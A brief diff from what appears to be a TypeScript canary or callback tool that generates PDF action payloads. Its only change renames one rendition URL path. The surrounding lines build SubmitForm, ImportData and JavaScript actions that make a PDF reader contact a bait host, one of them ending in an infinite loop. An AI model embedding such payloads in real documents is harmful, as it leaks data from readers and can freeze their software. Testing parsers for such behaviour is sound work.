@@ -17,7 +17,7 @@ const actions = (bait: Bait) => [
   `<< /S /SubmitForm /F << /FS /URL /F (${bait.url}/submit) >> >>`,
   `<< /S /ImportData /F (${canary(bait, 'txt')}) >>`,
   `<< /S /JavaScript /JS (app.launchURL\\("${bait.url}/js"\\); this.submitForm\\("${bait.url}/s"\\); while\\(1\\){}) >>`,
-  `<< /S /Rendition /R << /S /MR /C << /S /MCD /D << /FS /URL /F (${bait.url}/film) >> >> >> >>`,
+  `<< /S /Rendition /R << /S /MR /C << /S /MCD /D << /FS /URL /F (${bait.url}/video) >> >> >> >>`,
 ]
 const external = (bait: Bait, file: boolean) =>
   file ? `/F (${canary(bait, 'png')})` : `/F << /Type /Filespec /FS /URL /F (${bait.url}/stream) >>`
